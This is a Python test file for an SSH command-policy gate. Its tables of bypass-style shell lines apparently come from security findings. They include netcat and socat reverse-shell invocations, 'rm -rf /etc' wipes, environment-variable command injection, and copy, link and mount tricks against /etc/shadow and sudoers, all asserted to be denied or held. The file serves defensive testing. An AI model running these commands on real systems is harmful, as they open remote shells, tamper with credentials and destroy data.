"""Programs with a command language, copies, environment options and credential files (outside
attack I, findings 3 to 6): tables of lines against the policy, pure.

Each table holds the tester's lines and the members of their class found while closing it; each
line was allowed (or not held) before. End to end: tests/test_policy_gate.py.
"""

from __future__ import annotations

from pathlib import Path

from bastion.command_control.policy import (
    Policy,
    evaluate,
    parse_commands,
    policy_from_dict,
    reads_script_from_stdin,
    script_doubt,
    stdin_reader,
)
from bastion.ssh import judge
from tests.rows import each

POLICY_FILE = Path(__file__).resolve().parents[1] / "config" / "policy.toml"


def judged(policy: Policy, line: str) -> tuple[str, str]:
    """The verdict as judge_exec has it for an exec command (no terminal)."""
    v = evaluate(policy, line, role="engineer", target="web01", login="root", interactive=False)
    return v.action, v.rule


# ---------------------------------------------------------------------------------------------
# Finding 3: a program that reads its program from stdin, whatever arguments follow.

PROGRAM_ON_STDIN = [
    # sed's script file as stdin, every spelling of the option and of stdin
    "sed -n -f - /etc/hostname", "sed -f - /etc/hostname", "sed -f- /etc/hostname",
    "sed -nf - /etc/hostname", "sed -nf- /etc/hostname", "sed --file=- /etc/hostname",
    "sed --fi=- /etc/hostname", "sed --file - /etc/hostname", "sed -f /dev/stdin /etc/hostname",
    "sed -f /dev/fd/0 /etc/hostname", "sed -f /proc/self/fd/0 /etc/hostname",
    "sed --file=/dev/stdin /etc/hostname", "sed -f/dev/stdin /etc/hostname",
    "sed /etc/hostname -f -", "sed -i -f - /tmp/x",
    # awk and its kin
    "awk -f - /etc/hostname", "gawk -f - /etc/hostname", "mawk -f - /etc/hostname",
    "nawk -f - /etc/hostname", "busybox awk -f - /etc/hostname", "awk -f- /etc/hostname",
    "gawk --file=- /etc/hostname", "gawk -E /dev/stdin x", "gawk --exec=- x", "gawk -i - x",
    "awk -f /dev/stdin", "awk -v x=1 -f - /etc/hostname",
    # make's makefile
    "make -f -", "make --file=-", "make --makefile=-", "make -f /dev/stdin", "make -sf - all",
    "gmake -f -", "make -C /tmp -f - all",
    # interpreters with `-` as the script and arguments after it, and other names of stdin
    "python3 - x", "python3 - x y", "python3 -u - x", "perl - x", "perl -w - x", "ruby - x",
    "node - x", "php - x", "php -f - x", "lua - x", "tclsh - x", "expect -f - x", "Rscript - x",
    "python3 /dev/stdin x", "python3 /dev/fd/0 x", "perl /proc/self/fd/0 x", "perl -x - x",
    "python3 -X dev - x", "python3 -- - x", "sed -f /dev/fd/3 f 3<&0", "cd /dev/fd; sed -f 0 f",
    # a macro processor whose syscmd runs shell commands, reading stdin with no file or `-`
    "m4", "m4 -", "m4 x.m4 -",
    # interpreters that read more code from stdin after their program
    "python3 -i script.py", "python3 -ic 'print(1)'", "python3 -m pdb script.py",
    "python3 -m code", "perl -de0", "perl -d script.pl", "php -a", "node --interactive",
    "node -i", "lua -i script.lua",
]
WRAPPED = ["env {}", "sudo {}", "sh -c '{}'", "nice {}", "timeout 5 {}", "nohup {}",
           "sudo -u www-data env LC_ALL=C {}", "bash -c 'cd /tmp && {}'", "env -S '{}'",
           "exec {}", "command {}", "time {}", "su -c '{}'", "sudo -u x -- {}", "ssh host {}"]


@each("line", PROGRAM_ON_STDIN)
def test_a_program_reading_its_program_from_stdin_is_an_interpreter_there(line: str) -> None:
    assert reads_script_from_stdin(line) == "interpreter", parse_commands(line)
    # On a shell's stdin the rest of the script is its program: the stdin gate holds it.
    assert "may read the script after it" in (script_doubt(line) or ""), parse_commands(line)


@each("wrapper", WRAPPED)
@each("line", ["sed -n -f - /etc/hostname", "awk -f - /etc/hostname",
                                  "make -f -", "python3 - x", "perl - x"])
def test_a_program_reading_its_program_from_stdin_is_seen_behind_wrappers(line: str,
                                                                        wrapper: str) -> None:
    assert reads_script_from_stdin(wrapper.format(line)) == "interpreter"
    assert stdin_reader(wrapper.format(line)) is not None


PROGRAM_IN_A_FILE = [
    "sed -f script.sed /etc/hostname", "sed -n 1p /etc/hostname", "sed -e s/a/b/ -f x.sed f",
    "awk -f prog.awk /etc/hostname", "awk '{print $1}' /etc/hostname", "awk -v x=- '{print}' f",
    "make -f Makefile all", "make -C /tmp", "make", "python3 x.py -", "python3 -W ignore x.py",
    "perl -e 'print 1' -", "python3 -m http.server", "php -f index.php", "node app.js -",
    "m4 x.m4", "perl -x script.pl -",
]


@each("line", PROGRAM_IN_A_FILE)
def test_a_program_read_from_a_file_or_the_line_is_no_interpreter_on_stdin(line: str) -> None:
    assert reads_script_from_stdin(line) is None, parse_commands(line)


def test_a_program_fed_to_sed_through_a_pipe_is_unknown_and_its_writes_still_count(
    default_policy: Policy,
) -> None:
    assert judged(default_policy, "echo 1e\\ touch\\ x | sed -f - /etc/hostname") == (
        "confirm", "defaults.unknown")
    assert judged(default_policy, "echo 1e\\ touch\\ x | sed -n -f /dev/stdin /etc/hostname") == (
        "confirm", "defaults.unknown")
    assert judged(default_policy, "echo s/x/y/ | sed -f - -i /etc/shadow") == (
        "deny", "no-credential-file-sed")
    assert judged(default_policy, "sed -f - /etc/hostname <<< '1e touch x'") == (
        "confirm", "defaults.unknown")


# ---------------------------------------------------------------------------------------------
# Finding 4: cp -T (and its kin) writes the target and, when recursive, everything under it.

COPIES = [
    ("cp -rT /tmp/tree /etc", "confirm"), ("cp -aT /tmp/tree /etc", "confirm"),
    ("cp -RT /tmp/tree /etc", "confirm"), ("cp -r -T /tmp/tree /etc", "confirm"),
    ("cp -T -r /tmp/tree /etc", "confirm"), ("cp -Tr /tmp/tree /etc", "confirm"),
    ("cp -r --no-target-directory /tmp/tree /etc", "confirm"),
    ("cp -r --no-t /tmp/tree /etc", "confirm"), ("cp --rec --no-targ /tmp/tree /etc", "confirm"),
    ("cp --archive -T /tmp/tree /etc", "confirm"), ("cp /tmp/tree /etc -rT", "confirm"),
    ("cp /tmp/tree -rT /etc", "confirm"), ("cp -rT /tmp/tree /etc/sudoers.d", "deny"),
    ("cp -T /tmp/x /etc/shadow", "deny"), ("cp /tmp/x /etc/shadow -T", "deny"),
    ("cp -r /tmp/tree \"$x\" /etc", "confirm"),  # "$x" may be -T
    ("cp -t /etc /tmp/shadow", "deny"), ("cp --target-directory=/etc /tmp/shadow", "deny"),
    ("cp --target /etc /tmp/shadow", "deny"), ("cp -t/etc /tmp/shadow", "deny"),
    ("cp /tmp/shadow -t /etc", "deny"), ("cp /tmp/shadow --target-dir /etc", "deny"),
    ("mv -T /tmp/tree /etc/sudoers.d", "deny"), ("mv /tmp/tree /etc -T", "confirm"),
    ("mv /tmp/sudoers.d /etc", "deny"), ("ln -sT /tmp/tree /etc/sudoers.d", "deny"),
    ("ln -s --no-target-directory /tmp/tree /etc/sudoers.d", "deny"),
    ("ln -sfT /tmp/tree /etc", "confirm"), ("install -T /tmp/x /etc/shadow", "deny"),
    ("install /tmp/x /etc/shadow -T", "deny"), ("rsync -a /tmp/tree/ /etc/", "confirm"),
    ("rsync -r /tmp/tree/ /etc/sudoers.d", "deny"),
    ("rsync --recu /tmp/tree/ /etc/sudoers.d", "deny"),
    ("rsync --arch /tmp/tree/ /etc/", "confirm"), ("rsync -a /tmp/sudoers.d /etc", "deny"),
]


@each(("line", "verdict"), COPIES)
def test_a_copy_onto_the_target_itself_writes_it_and_its_tree(default_policy: Policy, line: str,
                                                              verdict: str) -> None:
    # (`ln` and a cp whose options are unknown meet the links rules first.)
    assert judged(default_policy, line) in ((verdict, "no-credential-file-writes"), (
        verdict, "no-credential-file-links"), (verdict, "no-credential-file-cp-links")), \
        parse_commands(line)
    # The same copy elsewhere writes nothing protected (a word known only at run time may).
    assert judged(default_policy, line.replace("/etc", "/srv"))[0] == (
        "confirm" if "$" in line else "allow")


# ---------------------------------------------------------------------------------------------
# Finding 5: options a program reads from the environment.

ENV_OPTIONS = [
    "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=touch\\ C' tar cf /dev/null /etc/hostname",
    "TAR_OPTIONS='--to-command=touch C' tar xf /tmp/a.tar",
    "TAR_OPTIONS=-I\\ sh tar cf /tmp/a /etc/hostname",
    "TAR_OPTIONS='--use-compress-program=sh' tar cf /tmp/a x",
    "TAR_OPTIONS='-C /etc' tar xf /tmp/a.tar", "TAR_OPTIONS='-f /etc/shadow' tar c x",
    "export TAR_OPTIONS='--to-command=sh'; tar xf /tmp/a.tar",
    "export TAR_OPTIONS='--to-command=sh'", "env TAR_OPTIONS=--info-script=sh tar cf a x",
    "declare -x TAR_OPTIONS='--rsh-command=sh'", "TAR_OPTIONS=\"$opts\" tar xf a",
    "TAR_OPTIONS='--unbalanced \"quote' tar xf a",
    "GZIP='-S /x' gzip x", "GZIP=/etc/shadow gzip x", "PIGZ=-r pigz x", "BZIP2=/etc/shadow bzip2 x",
    "BZIP=-d bzip2 x", "XZ_OPT=/etc/shadow xz x", "XZ_OPT=--files=/tmp/l xz",
    "XZ_DEFAULTS=--suffix=x xz f", "LESS='-o /etc/shadow' less x", "LESS=-O/tmp/log less x",
    "LESS='+!touch x' less f", "LESS=-k/tmp/keys less f", "LESS=--log-file=/tmp/l less f",
    "MAKEFLAGS='--eval=$(shell touch x)' make", "MAKEFLAGS='-f -' make", "MFLAGS=-C/etc make",
    "GNUMAKEFLAGS=SHELL=/tmp/x make", "PERL5OPT='-Mstrict;system(1)' perl x",
    "PERL5OPT=-d perl x", "RUBYOPT=-r/dev/stdin ruby x", "NODE_OPTIONS='-r /dev/stdin' node x",
    "NODE_OPTIONS=--require=/dev/stdin node x", "LESSKEY=/tmp/k less f",
    "LESSKEY_CONTENT='! shell' less f", "LESSEDIT='sh -c %f' less f",
    "LESSHISTFILE=/tmp/lesshst less f", "PERL5DB='system(1)' perl -d x",
    "PYTHONINSPECT=1 python3 x.py",
]


@each("line", ENV_OPTIONS)
def test_options_a_program_reads_from_the_environment_are_unknown_unless_harmless(
    default_policy: Policy, line: str,
) -> None:
    assert judged(default_policy, line) == ("confirm", "defaults.unknown"), parse_commands(line)


ENV_OPTIONS_HARMLESS = [
    "TAR_OPTIONS='--no-same-owner -v' tar xf /tmp/a.tar", "TAR_OPTIONS=--warning=no-timestamp tar x",
    "GZIP=-9 gzip x", "GZIP='-n --rsyncable' tar czf a.tgz d", "XZ_OPT=-T0 tar cJf a.txz d",
    "XZ_OPT='-T 4 -9e' xz x", "BZIP2=-9 bzip2 x", "LESS=FRX less f", "LESS='-R -S' less f",
    "LESS=-iMR git log", "MAKEFLAGS=-j4 make", "MAKEFLAGS='-j 4 --no-print-directory' make",
    "PERL5OPT=-w perl x", "NODE_OPTIONS=--max-old-space-size=4096 node app.js",
    "RUBYOPT=-W0 ruby x",
]


@each("line", ENV_OPTIONS_HARMLESS)
def test_harmless_options_from_the_environment_stay_allowed(default_policy: Policy,
                                                           line: str) -> None:
    assert judged(default_policy, line) == ("allow", "defaults.unmatched"), parse_commands(line)


@each("line", [
    "RSYNC_RSH='touch /tmp/canary' rsync -a x host:y", "RSYNC_CONNECT_PROG='touch /tmp/canary' "
    "rsync rsync://h/m x", "export RSYNC_RSH='touch /tmp/canary'",
])
def test_programs_rsync_runs_from_the_environment_are_judged_as_code(line: str) -> None:
    policy = policy_from_dict({"rules": [{"name": "canary", "action": "deny",
                                          "commands": ["touch"]}]})
    assert evaluate(policy, line, role="r", target="t").rule == "canary"


# ---------------------------------------------------------------------------------------------
# Finding 6: mode, owner, ACL, attribute and mount changes of protected files (shipped policy).

PROTECTED_CHANGES = [
    ("chmod 666 /etc/passwd", "no-credential-file-writes"),
    ("chmod o+w /etc/shadow", "no-credential-file-writes"),
    ("chmod --reference=/tmp/x /etc/shadow", "no-credential-file-writes"),
    ("setfacl -m u:nobody:rw /etc/shadow", "no-credential-file-writes"),
    ("setfacl --modify=u:nobody:rw /etc/sudoers", "no-credential-file-writes"),
    ("chown nobody /etc/shadow", "no-credential-file-writes"),
    ("chown nobody: /etc/sudoers.d/x", "no-credential-file-writes"),
    ("chgrp users /etc/gshadow", "no-credential-file-writes"),
    ("chattr -i /etc/sudoers", "no-credential-file-writes"),
    ("setfattr -n system.posix_acl_access -v x /etc/shadow", "no-credential-file-writes"),
    ("chcon -t tmp_t /etc/shadow", "no-credential-file-writes"),
    ("chown -R nobody /etc/sudoers.d", "no-credential-file-writes"),
    ("mount --bind /tmp/mine /etc/sudoers", "no-credential-file-writes"),
    ("mount -B /tmp/mine /etc/sudoers", "no-credential-file-writes"),
    ("mount -o bind /tmp/mine /etc/sudoers", "no-credential-file-writes"),
    ("mount -o ro,bind /tmp/mine /etc/passwd", "no-credential-file-writes"),
    ("mount --rbind /tmp/mine /etc/sudoers.d", "no-credential-file-writes"),
    ("mount --move /tmp/m /etc/sudoers.d", "no-credential-file-writes"),
    ("mount --bind /etc/shadow /tmp/s", "no-credential-file-writes"),
    ("unshare -m sh -c 'mount --bind /tmp/mine /etc/sudoers'", "no-credential-file-writes"),
    ("sudo mount --bind /tmp/mine /etc/shadow", "no-credential-file-writes"),
    ("ln /etc/shadow /tmp/s", "no-credential-file-links"),
    ("ln -s /etc/shadow /tmp/s", "no-credential-file-links"),
    ("link /etc/shadow /tmp/s", "no-credential-file-links"),
    ("cp -l /etc/shadow /tmp/s", "no-credential-file-cp-links"),
    ("cp -al /etc/sudoers.d /tmp/s", "no-credential-file-cp-links"),
    ("cp --sym /etc/shadow /tmp/s", "no-credential-file-cp-links"),
    ("cp --link /etc/shadow /tmp/s", "no-credential-file-cp-links"),
    ("chmod 000 ~/.bash_history", "no-history-file-tampering"),
    ("chattr +i ~/.bash_history", "no-history-file-tampering"),
    ("ln /var/log/wtmp /tmp/w", "no-log-tampering"),
    ("chmod 666 /var/log/auth.log", "no-log-tampering"),
    ("mount -t tmpfs none /var/log/audit", "no-log-tampering"),
    ("chmod 666 /dev/sda", "no-raw-disk-write"),
]


@each(("line", "rule"), PROTECTED_CHANGES)
def test_mode_owner_acl_attribute_link_and_mount_changes_of_protected_files_are_denied(
    default_policy: Policy, line: str, rule: str,
) -> None:
    assert judged(default_policy, line) == ("deny", rule), parse_commands(line)


@each("line", [
    "chmod -R o+w /etc", "chmod --rec 777 /etc", "chown -Rh nobody /etc", "setfacl -R -m o:rw /etc",
    "mount -t tmpfs none /etc", "mount --bind /tmp/fake /etc", "chmod $opt 666 /etc",
])
def test_a_recursive_change_or_a_mount_above_a_protected_file_is_held(default_policy: Policy,
                                                                     line: str) -> None:
    assert judged(default_policy, line)[0] == "confirm", parse_commands(line)
    assert judged(default_policy, line.replace("/etc", "/srv"))[0] == (
        "confirm" if "$" in line else "allow")


@each(("line", "expected"), [
    ("mount --bind /tmp/x ~/.inputrc", ("confirm", "confirm-readline-init-write")),
    ("mount --bind /tmp/cron /etc/cron.d", ("alert", "alert-cron-files")),
    ("mount --bind /tmp/keys /root/.ssh/authorized_keys", ("alert", "alert-authorized-keys")),
    ("setfacl -m u:nobody:rw /root/.ssh/authorized_keys", ("alert", "alert-authorized-keys")),
    ("chmod 600 /root/x", ("allow", "defaults.unmatched")),
    ("chmod -R 755 /var/www", ("allow", "defaults.unmatched")),
    ("chown -R www-data: /var/www", ("allow", "defaults.unmatched")),
    ("mount /dev/sdb1 /mnt", ("allow", "defaults.unmatched")),
    ("cp /etc/shadow /root/shadow.bak", ("allow", "defaults.unmatched")),
    ("cp -a /etc/sudoers.d /root/backup", ("allow", "defaults.unmatched")),
])
def test_other_protected_paths_and_everyday_changes(default_policy: Policy, line: str,
                                                    expected: tuple[str, str]) -> None:
    assert judged(default_policy, line) == expected


@each(("op", "path"), [
    ("chmod 438", "/etc/shadow"), ("chmod 511", "/etc/sudoers"), ("chown 65534:65534", "/etc/passwd"),
    ("chown 0:0", "/etc/sudoers.d/x"),
])
def test_sftp_setstat_on_a_credential_file_is_denied(default_policy: Policy, op: str,
                                                     path: str) -> None:
    # TransferJudge judges an SFTP setstat as the line file_op_line makes of it.
    line = judge.file_op_line(op, (path,), literal=True)
    assert judged(default_policy, line) == ("deny", "no-credential-file-writes"), line
    assert judged(default_policy, judge.file_op_line(op, ("/tmp/x",), literal=True))[0] == "allow"


# ---------------------------------------------------------------------------------------------
# Finding 7: Ansible with pipelining sends python code on stdin: held, as finding 3 holds it.

@each(("command", "kind"), [
    ("/bin/sh -c '/usr/bin/python3 && sleep 0'", "interpreter"),
    ("/bin/sh -c 'sudo -H -S -n  -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-abc ; "
     "/usr/bin/python3'\"'\"' && sleep 0'", "interpreter"),
    ("/bin/sh -c '/usr/bin/python3 /home/deploy/.ansible/tmp/ansible-tmp-1/AnsiballZ_ping.py "
     "&& sleep 0'", None),
])
def test_ansible_pipelining_is_held_and_its_default_is_not(command: str, kind: str | None) -> None:
    assert reads_script_from_stdin(command) == kind


# ---------------------------------------------------------------------------------------------
# Outside attack O, findings 5 and 9: programs whose arguments hold a command they run (or a
# file they write), each judged as that command; what the policy cannot read is unknown.

RUNNERS = [
    # cmake -E: env, time and chdir run a command; copy, rename, touch... write files
    ("cmake -E env sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
    ("cmake -E env --unset=A B=1 rm -rf /etc", "no-root-wipe"),
    ("cmake -E time sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
    ("cmake -E chdir /tmp sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
    ("cmake -E chdir /etc rm -rf sudoers.d", "no-credential-file-writes"),
    ("cmake -E copy /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
    ("cmake -E copy_if_different /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
    ("cmake -E copy_directory /tmp/d /etc/sudoers.d", "no-credential-file-writes"),
    ("cmake -E touch /etc/sudoers.d/x", "no-credential-file-writes"),
    ("cmake -E create_symlink /tmp/a /etc/sudoers.d/x", "no-credential-file-links"),
    ("cmake -E rename /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
    ("cmake -E remove /etc/sudoers", "no-credential-file-writes"),
    ("cmake -E rm -rf /etc", "no-root-wipe"),
    ("cmake -E __run_co_compile --launcher=x -- rm -rf /etc", "defaults.unknown"),
    ("cmake -E $cmd rm -rf /etc", "defaults.unknown"),
    # init shims, job queues, MPI and Slurm launchers, hwloc-bind
    ("tini -- sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
    ("tini -s -p SIGKILL -- rm -rf /etc", "no-root-wipe"), ("dumb-init rm -rf /etc", "no-root-wipe"),
    ("dumb-init -r 15:9 -- rm -rf /etc", "no-root-wipe"), ("catatonit -- rm -rf /etc", "no-root-wipe"),
    ("tsp rm -rf /etc", "no-root-wipe"), ("tsp -L x -N 2 rm -rf /etc", "no-root-wipe"),
    ("nq rm -rf /etc", "no-root-wipe"),
    ("pueue add rm -rf /etc", "no-root-wipe"), ("pueue add -- rm -rf /etc", "no-root-wipe"),
    ("pueue add -w /etc -- rm -rf sudoers.d", "no-credential-file-writes"),
    ("mpirun -np 2 rm -rf /etc", "no-root-wipe"), ("mpiexec -n 2 rm -rf /etc", "no-root-wipe"),
    ("mpirun --mca btl self -x A=1 rm -rf /etc", "no-root-wipe"),
    ("mpirun -np 2 ./a : -np 2 rm -rf /etc", "no-root-wipe"),
    ("mpirun -wdir /etc rm -rf sudoers.d", "no-credential-file-writes"),
    ("mpirun --some-new-option 4 rm -rf /etc", "defaults.unknown"),
    ("srun -N1 rm -rf /etc", "no-root-wipe"), ("srun --partition debug rm -rf /etc", "no-root-wipe"),
    ("srun -D /etc rm -rf sudoers.d", "no-credential-file-writes"),
    ("srun -o /etc/sudoers.d/x hostname", "no-credential-file-writes"),
    ("salloc -N1 rm -rf /etc", "no-root-wipe"),
    ("hwloc-bind core:0 -- rm -rf /etc", "no-root-wipe"),
    ("hwloc-bind --cpubind node:0 rm -rf /etc", "no-root-wipe"),
    ("hwloc-bind L2Cache:0 numa:1 rm -rf /etc", "no-root-wipe"),
    # terminal recorders and moreutils
    ("asciinema rec -c 'rm -rf /etc'", "no-root-wipe"),
    ("asciinema rec --command='rm -rf /etc' /tmp/x.cast", "no-root-wipe"),
    ("asciinema rec /etc/sudoers.d/x", "no-credential-file-writes"),
    ("asciinema rec /tmp/x.cast -c 'rm -rf /etc'", "no-root-wipe"),
    ("ttyrec -e 'rm -rf /etc'", "no-root-wipe"), ("ttyrec /etc/sudoers.d/x", "no-credential-file-writes"),
    ("mispipe 'rm -rf /etc' cat", "no-root-wipe"), ("mispipe true 'rm -rf /etc'", "no-root-wipe"),
    # ansible's ad-hoc modules run code on the hosts (perhaps this one); `command` the default
    ("ansible localhost -m shell -a 'rm -rf /etc'", "no-root-wipe"),
    ("ansible localhost -m command -a 'rm -rf /etc'", "no-root-wipe"),
    ("ansible localhost -m ansible.builtin.raw -a 'rm -rf /etc'", "no-root-wipe"),
    ("ansible all -a 'rm -rf /etc'", "no-root-wipe"),
    ("ansible localhost -m script -a /tmp/x.sh", "defaults.unknown"),
    ("ansible localhost -m copy -a 'src=/tmp/a dest=/etc/sudoers.d/x'", "defaults.unknown"),
    ("ansible localhost -m ping -e ansible_python_interpreter=/tmp/x", "defaults.unknown"),
    ("ansible localhost -M /tmp/mods -m ping", "defaults.unknown"),
    # valgrind's log file
    ("valgrind --log-file=/etc/sudoers.d/x ls", "no-credential-file-writes"),
    # socat's addresses: command addresses are code, file addresses and link= writes
    ("socat - SYSTEM:'rm -rf /etc'", "no-root-wipe"), ("socat - EXEC:'rm -rf /etc'", "no-root-wipe"),
    ("socat TCP-LISTEN:80,fork exec:'rm -rf /etc',pty", "no-root-wipe"),
    ("socat - SHELL:'rm -rf /etc'", "no-root-wipe"),
    ("socat TCP-LISTEN:80 EXEC:bash", "no-pipe-into-shell"),
    ("socat - 'EXEC:echo x|sh'", "no-pipe-into-shell"),
    ("socat - \"SYSTEM:'a,b'\"", "defaults.unknown"),
    ("socat - CREATE:/etc/sudoers.d/x", "no-credential-file-writes"),
    ("socat - OPEN:/etc/sudoers.d/x,creat", "no-credential-file-writes"),
    ("socat - GOPEN:/etc/sudoers.d/x", "no-credential-file-writes"),
    ("socat - /etc/sudoers.d/x", "no-credential-file-writes"),
    ("socat - PTY,link=/etc/sudoers.d/x", "no-credential-file-writes"),
    ("socat -r /etc/sudoers.d/x - TCP:10.0.0.1:80", "no-credential-file-writes"),
    ("socat --new-option x - EXEC:'rm -rf /etc'", "no-root-wipe"),
    # netcat's -e and -c, ncat's --sh-exec, --exec and --lua-exec, busybox nc
    ("nc -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"), ("nc -c 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
    ("nc -lvp 80 -e /bin/sh", "no-pipe-into-shell"), ("ncat -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"),
    ("ncat --sh-exec 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
    ("ncat --exec='/bin/rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
    ("ncat -c 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
    ("ncat --lua-exec /tmp/x.lua 10.0.0.1 80", "defaults.unknown"),
    ("ncat -o /etc/sudoers.d/x 10.0.0.1 80", "no-credential-file-writes"),
    ("busybox nc -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"),
    ("busybox nc -l -p 80 -e sh -c 'rm -rf /etc'", "no-pipe-into-shell"),
    # environment and tool managers, secret injectors, sandboxes, watchers, batch systems
    ("uv run rm -rf /etc", "no-root-wipe"), ("uv run --with x -- rm -rf /etc", "no-root-wipe"),
    ("uv run --directory /etc rm -rf sudoers.d", "no-credential-file-writes"),
    ("uv run --some-new-option x rm -rf /etc", "defaults.unknown"),
    ("poetry run rm -rf /etc", "no-root-wipe"), ("pipenv run rm -rf /etc", "no-root-wipe"),
    ("bundle exec rm -rf /etc", "no-root-wipe"), ("conda run -n x rm -rf /etc", "no-root-wipe"),
    ("pyenv exec rm -rf /etc", "no-root-wipe"), ("asdf exec rm -rf /etc", "no-root-wipe"),
    ("mise exec node@20 -- rm -rf /etc", "no-root-wipe"), ("mise x -c 'rm -rf /etc'", "no-root-wipe"),
    ("npx rm -rf /etc", "no-root-wipe"), ("npx -c 'rm -rf /etc'", "no-root-wipe"),
    ("npm exec -- rm -rf /etc", "no-root-wipe"), ("op run -- rm -rf /etc", "no-root-wipe"),
    ("doppler run --command 'rm -rf /etc'", "no-root-wipe"),
    ("aws-vault exec prod -- rm -rf /etc", "no-root-wipe"),
    ("direnv exec / rm -rf /etc", "no-root-wipe"),
    ("meson devenv -C build rm -rf /etc", "no-root-wipe"),
    ("flatpak-spawn --host rm -rf /etc", "no-root-wipe"), ("toolbox run rm -rf /etc", "no-root-wipe"),
    ("distrobox enter box -- rm -rf /etc", "no-root-wipe"),
    ("nix develop -c rm -rf /etc", "no-root-wipe"),
    ("nix shell nixpkgs#hello --command rm -rf /etc", "no-root-wipe"),
    ("nix-shell -p hello --run 'rm -rf /etc'", "no-root-wipe"),
    ("watchexec -e py 'rm -rf /etc'", "no-root-wipe"),
    ("nsjail -Mo --chroot / -- /bin/rm -rf /etc", "no-root-wipe"),
    ("minijail0 -u nobody /bin/rm -rf /etc", "defaults.unknown"),
    ("sbatch --wrap 'rm -rf /etc'", "no-root-wipe"), ("sbatch --wrap='rm -rf /etc'", "no-root-wipe"),
    ("ctest --build-and-test a b --test-command rm -rf /etc", "no-root-wipe"),
    ("make --eval='$(shell rm -rf /etc)'", "defaults.unknown"),
    ("make -sE '$(shell rm -rf /etc)'", "defaults.unknown"),
    ("echo run rm -rf /etc | xargs uv", "defaults.unknown"),
    ("echo rm -rf /etc | xargs uv run", "defaults.unknown"),
    ("uv $verb rm -rf /etc", "defaults.unknown"), ("cmake \"$e\" env rm -rf /etc", "defaults.unknown"),
    ("pueue $x rm -rf /etc", "defaults.unknown"),
]
RUNNERS_HONEST = [
    ("cmake -E echo hi", "allow"), ("cmake --build .", "allow"), ("cmake -E env FOO=1 make", "allow"),
    ("cmake -E chdir build make", "allow"), ("cmake -E copy a.txt build/", "allow"),
    ("cmake -E make_directory build", "allow"), ("cmake -E capabilities", "allow"),
    ("time make", "allow"), ("nice make", "allow"), ("flock /tmp/l make", "allow"),
    ("tini -- nginx -g 'daemon off;'", "allow"), ("tsp -l", "allow"), ("tsp make", "allow"),
    ("mpirun -np 4 ./app", "allow"), ("srun --partition=debug hostname", "allow"),
    ("hwloc-bind core:0 make", "allow"), ("pueue add make", "allow"),
    ("asciinema rec -c make /tmp/build.cast", "allow"), ("mispipe make 'tee /tmp/log'", "allow"),
    ("ansible all -m ping", "allow"), ("ansible web -m shell -a uptime", "allow"),
    ("socat - TCP:example.org:80", "alert"), ("nc 10.0.0.1 80", "alert"),
    ("uv run pytest", "allow"), ("poetry run pytest -x", "allow"), ("npx prettier --write .", "allow"),
    ("conda run -n base python x.py", "allow"), ("watchexec -e py -- pytest", "allow"),
    ("uv pip install x", "allow"), ("npm install", "allow"), ("sbatch job.sh", "allow"),
    ("ctest -j4 --output-on-failure", "allow"), ("make -j4", "allow"), ("make -C build install", "allow"),
    # under xargs, a subcommand that runs nothing takes the appended words as operands
    ("echo x | xargs npm install", "confirm"),  # its words may hold npm settings options (z35f 16)
    ("echo x | xargs uv pip install", "allow"),
    ("cmake \"$builddir\"", "allow"),
]


@each(("line", "rule"), RUNNERS)
def test_a_program_whose_arguments_hold_a_command_is_judged_as_that_command(
        default_policy: Policy, line: str, rule: str) -> None:
    action, judged_rule = judged(default_policy, line)
    assert judged_rule == rule, (action, parse_commands(line))
    assert action in ("deny", "confirm")


@each(("line", "action"), RUNNERS_HONEST)
def test_honest_runs_of_such_programs_keep_their_verdict(default_policy: Policy, line: str,
                                                         action: str) -> None:
    assert judged(default_policy, line)[0] == action, parse_commands(line)


# Finding 7: programs that read their program from stdin in spellings not seen before.
@each(("line", "reads"), [
    ("python3 -Im asyncio", "interpreter"), ("python3 -Em code", "interpreter"),
    ("python3 -m cProfile /dev/stdin", "interpreter"),
    ("python3 -m cProfile -o /tmp/p /dev/stdin", "interpreter"),
    ("python3 -m trace --trace /dev/stdin", "interpreter"),
    ("python3 -m profile /dev/fd/0", "interpreter"), ("python3 -Im runpy /dev/stdin", "interpreter"),
    ("python3 -m doctest /dev/stdin", "interpreter"), ("python3 -m pickle /dev/stdin", "interpreter"),
    ("m4 /dev/stdin", "interpreter"), ("m4 -D x", "interpreter"), ("m4 -I /tmp x.m4 -", "interpreter"),
    ("socat - EXEC:bash", "shell"), ("salloc -N1", "shell"), ("asciinema rec", "shell"),
    ("sbatch", "shell"), ("nix develop", "shell"), ("nix-shell -p hello", "shell"),
    # a script or module named on the line is no program on stdin
    ("python3 -m cProfile x.py", None), ("python3 -Im http.server", None), ("m4 x.m4", None),
    ("m4 -D x=1 x.m4", None), ("python3 -W ignore x.py", None),
])
def test_programs_read_from_stdin_in_other_spellings(line: str, reads: str | None) -> None:
    assert reads_script_from_stdin(line) == reads, parse_commands(line)
